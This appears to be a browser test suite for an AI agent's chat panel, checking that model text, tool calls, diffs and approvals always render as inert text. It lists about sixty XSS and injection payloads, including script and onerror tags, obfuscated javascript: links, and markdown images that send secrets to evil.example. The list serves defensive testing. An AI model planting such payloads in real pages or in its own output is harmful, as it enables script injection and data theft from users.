import assert from 'node:assert/strict';
import type { ChatEvent } from '../../src/shared/events.ts';
import { approvals, calls, request } from './agent-fixtures.ts';
import { ask, cost, end, failure, glm, kimi, say, snapshot, toolStep, turn } from './fixtures.ts';
import { openPanel, type PanelPage } from './panel-page.ts';

/** Every one of these must come out as text: no script, no request, no attribute of its own. */
const vectors = [
  '<script>globalThis.pwned = 1</script>',
  '<img src=x onerror="globalThis.pwned = 1">',
  '<svg onload="globalThis.pwned = 1">',
  '<svg><script>globalThis.pwned = 1</script></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<style>body { background: url(https://evil.example/bg) }</style>',
  '<div style="background: url(https://evil.example/bg)">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '<input autofocus onfocus="globalThis.pwned = 1">',
  '<details open ontoggle="globalThis.pwned = 1">x</details>',
  '<video src="https://evil.example/v"></video><audio src="https://evil.example/a"></audio>',
  '<math><mtext><img src=x onerror="globalThis.pwned = 1"></mtext></math>',
  '<a href="javascript:globalThis.pwned = 1">x</a>',
  '<p id="root">clobbered</p><form id="root"><input name="innerHTML"></form>',
  '<template><img src=x onerror="globalThis.pwned = 1"></template>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>"></noscript>',
  '<!--><img src=x onerror="globalThis.pwned = 1">-->',
  '![leak](https://evil.example/?secret=1)',
  '![leak][ref]\n\n[ref]: https://evil.example/?secret=2',
  '![](//evil.example/?secret=3)',
  '[![leak](https://evil.example/?secret=4)](https://evil.example/)',
  '![leak](https://evil.example/x.png "title\\" onerror=\\"globalThis.pwned = 1")',
  '![leak](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[x](javascript:globalThis.pwned=1)',
  '[x](JaVaScRiPt:globalThis.pwned=1)',
  '[x](java&#115;cript:globalThis.pwned=1)',
  '[x](javascript&colon;globalThis.pwned=1)',
  '[x](java&Tab;script:globalThis.pwned=1)',
  '[x](java&NewLine;script:globalThis.pwned=1)',
  '[x](&#1;javascript:globalThis.pwned=1)',
  '[x](data:text/html,<script>parent.pwned=1</script>)',
  '[x](vbscript:globalThis.pwned=1)',
  '[x](command:workbench.action.closeWindow)',
  '[x](vscode://evil.evil/run)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x][js]\n\n[js]: javascript:globalThis.pwned=1',
  '<javascript:globalThis.pwned=1>',
  '<https://evil.example/"onclick="globalThis.pwned=1>',
  'https://evil.example/"onmouseover="globalThis.pwned=1',
  '```"><img src=x onerror=globalThis.pwned=1>\ncode\n```',
  '```html\n<script>globalThis.pwned = 1</script>\n```',
  '`<img src=x onerror=globalThis.pwned=1>`',
  '| <img src=x onerror=globalThis.pwned=1> |\n|---|\n| <script>globalThis.pwned=1</script> |',
  '# <img src=x onerror=globalThis.pwned=1>',
  '- [x] <script>globalThis.pwned=1</script>',
  '> <iframe src="https://evil.example/">',
  '[^1]: <img src=x onerror=globalThis.pwned=1>',
  '&lt;img src=x onerror=globalThis.pwned=1&gt;',
  '<<img src=x onerror=globalThis.pwned=1>script>',
  '\u202e<script>globalThis.pwned=1</script>',
  '</div></article></main><script>globalThis.pwned=1</script>',
  '{{constructor.constructor("globalThis.pwned=1")()}} #{globalThis.pwned=1}',
];

const allowedTags = new Set(
  `ARTICLE B BDI BLOCKQUOTE BR BUTTON CODE DD DEL DETAILS DIV DL DT EM FOOTER HEADER H2 H3 HR INS LI OL P PATH PRE SECTION SPAN STRONG SUMMARY SVG
   TABLE TBODY TD TH THEAD TR UL`.split(/\s+/),
);
const allowedAttributes = new Set(
  `aria-controls aria-current aria-disabled aria-expanded aria-hidden aria-keyshortcuts aria-label aria-labelledby aria-pressed class d data-id data-move data-shown-at id open role scope start tabindex title type viewBox`.split(
    ' ',
  ),
);

/** What must never be there, in the document as it is now. */
function foreignParts(panel: PanelPage, tags: string[], attributes: string[]): Promise<string[]> {
  return panel.page.evaluate(
    ([tags, attributes]) => {
      const found: string[] = [];
      for (const element of document.querySelectorAll('[role=log] *, .strips *')) {
        if (!tags?.includes(element.tagName.toUpperCase())) found.push(`<${element.tagName}>`);
        for (const { name } of element.attributes)
          if (!attributes?.includes(name)) found.push(`${element.tagName} ${name}`);
      }
      if ((globalThis as { pwned?: unknown }).pwned !== undefined) found.push('a script ran');
      return found;
    },
    [tags, attributes],
  );
}

/** So that nothing escapes the look. */
function unfoldAll(panel: PanelPage): Promise<void> {
  return panel.page.evaluate(async () => {
    for (const details of document.querySelectorAll('details')) details.open = true;
    for (const toggle of document.querySelectorAll<HTMLElement>('[aria-expanded=false]')) toggle.click();
    for (let frame = 0; frame < 3; frame++) await new Promise((resolve) => requestAnimationFrame(resolve));
  });
}

describe('model text is only ever text', () => {
  let panel: PanelPage;
  before(async () => {
    panel = await openPanel();
  });
  after(() => panel.close());

  async function assertHarmless(more: readonly string[] = []): Promise<void> {
    assert.deepEqual(await foreignParts(panel, [...allowedTags, ...more], [...allowedAttributes]), []);
    assert.deepEqual(panel.foreignRequests(), []);
    assert.deepEqual(panel.problems(), []);
    for (const message of await panel.posted()) assert.equal(message.type, 'ready');
  }

  for (const [index, vector] of vectors.entries()) {
    it(`X17 X18 vector ${index + 1}: ${JSON.stringify(vector.slice(0, 50))}`, async () => {
      const everywhere: ChatEvent[] = [
        ...ask(vector),
        { type: 'reasoningDelta', turnId: 'turn-1', step: 0, text: vector },
        ...toolStep(vector, [
          { id: 'c1', name: vector, title: vector, arguments: JSON.stringify({ [vector]: vector }), output: vector },
        ]),
        { type: 'notice', turnId: 'turn-1', step: 0, notice: { kind: 'note', text: vector } },
        { type: 'textDelta', turnId: 'turn-1', step: 1, text: vector },
        end('turn-1', {
          outcome: 'failed',
          failure: failure('bad-request', { serverMessage: vector, message: vector, model: vector }),
        }),
      ];
      const names = { [kimi]: vector, [glm]: vector };
      await panel.send(
        snapshot(everywhere, {
          modelNames: names,
          model: { id: vector, name: vector },
          attachments: [{ id: 'a', label: vector }],
        }),
      );
      await unfoldAll(panel);
      await assertHarmless();
    });
  }

  for (const [index, vector] of vectors.entries()) {
    it(`X22 X25 in requests, diffs, plans, edits and the queue, vector ${index + 1}`, async () => {
      const change = { tool: vector, title: vector, warnings: [vector], scopes: ['once', 'always'] as const };
      const diff = `@@ -1,1 +1,1 @@\n-${vector}\n+${vector}  \n ${vector}\n${vector}`;
      await panel.send(
        snapshot(
          [
            ...turn('Hi', 'Hello', 'turn-0'),
            { type: 'compacted', turnId: 'turn-1', summary: vector, tokensBefore: 2, tokensAfter: 1 },
            ...approvals(
              request({ kind: 'command', command: vector, cwd: vector, shell: vector }, { ...change, callId: 'c1' }),
              request(
                { kind: 'edit', path: vector, diff, added: 1, removed: 1, isNew: false, isProtected: true },
                { ...change, callId: 'c2' },
              ),
              request({ kind: 'rename', path: vector, to: vector, isProtected: true }, { ...change, callId: 'c3' }),
              request({ kind: 'foreign', tool: vector, arguments: vector }, { ...change, callId: 'c4' }),
            ),
            { type: 'planUpdated', turnId: 'turn-1', items: [{ text: vector, state: 'active' }] },
          ],
          {
            edits: [{ uri: vector, path: vector, added: 1, removed: 1 }],
            queue: { items: [{ id: 'q', text: vector }], paused: true },
          },
        ),
      );
      await unfoldAll(panel);
      await assertHarmless();
      await panel.send(
        snapshot([
          ...ask('Hi'),
          ...calls([
            { id: 'c1', name: 'ask_user' },
            { id: 'c2', name: 'run_command' },
          ]),
          { type: 'toolStarted', turnId: 'turn-1', step: 0, callId: 'c1', name: vector, title: vector, at: 0 },
          { type: 'toolStarted', turnId: 'turn-1', step: 0, callId: 'c2', name: vector, title: vector, at: 0 },
          { type: 'toolOutput', turnId: 'turn-1', step: 0, callId: 'c2', text: vector },
          {
            type: 'questionAsked',
            turnId: 'turn-1',
            step: 0,
            question: { callId: 'c1', text: vector, options: [vector] },
          },
        ]),
      );
      await unfoldAll(panel);
      // The card's own form is the only one.
      assert.equal(await panel.log.locator('form').count(), 1);
      const own = panel.log.locator('form.text-form');
      await own.evaluate((form) => form.remove());
      await assertHarmless();
    });
  }

  it('X17 X18 holds for text that comes letter by letter', async () => {
    await panel.send(snapshot());
    await panel.events(...ask('Hi', 'turn-s'));
    const text = vectors.join('\n\n');
    await panel.page.evaluate(
      async (pieces: ChatEvent[]) => {
        for (const event of pieces) {
          window.dispatchEvent(new MessageEvent('message', { data: { type: 'events', events: [event] } }));
          if (Math.random() < 0.2) await new Promise((resolve) => requestAnimationFrame(resolve));
        }
      },
      Array.from({ length: Math.ceil(text.length / 3) }, (_, index) =>
        say(text.slice(index * 3, index * 3 + 3), 'turn-s'),
      ),
    );
    await panel.events(end('turn-s', { cost: cost() }));
    await assertHarmless();
  });

  it('X17 shows an image as a chip with its alt text and never loads it', async () => {
    await panel.send(snapshot(turn('Hi', '![a cat](https://evil.example/cat.png?leak=1)')));
    await panel.page.getByText('Image, not loaded: a cat').waitFor();
    await assertHarmless();
  });

  it('X18 shows where a link that pretends leads', async () => {
    await panel.send(snapshot(turn('Hi', '[https://github.com/login](https://evil.example/login)')));
    await panel.page.getByText('(evil.example)').waitFor();
  });

  it('X18 shows direction marks instead of obeying them', async () => {
    await panel.send(snapshot(turn('Hi', 'safe \u202eexe.txt and `a\u200bb`')));
    await panel.page.getByText('safe ␣U+202Eexe.txt').waitFor();
    await panel.page.getByText('a␣U+200Bb').waitFor();
  });

  it('X18 no middle click, drag or Ctrl+click opens a page', async () => {
    await panel.send(snapshot(turn('Hi', '[docs](https://example.com/)')));
    const pages = panel.page.context().pages().length;
    const link = panel.page.getByRole('link', { name: 'docs' });
    await link.click({ button: 'middle' });
    await link.click({ modifiers: ['Control'] });
    assert.equal(panel.page.context().pages().length, pages);
    assert.match(panel.page.url(), /^http:\/\/127\.0\.0\.1/);
  });

  it('ignores messages that are none of the host’s', async () => {
    await panel.page.evaluate(() => {
      for (const data of [null, 1, 'x', {}, { type: 'eval' }, { type: 'constructor' }, []]) {
        window.dispatchEvent(new MessageEvent('message', { data }));
      }
    });
    assert.deepEqual(panel.problems(), []);
  });
});
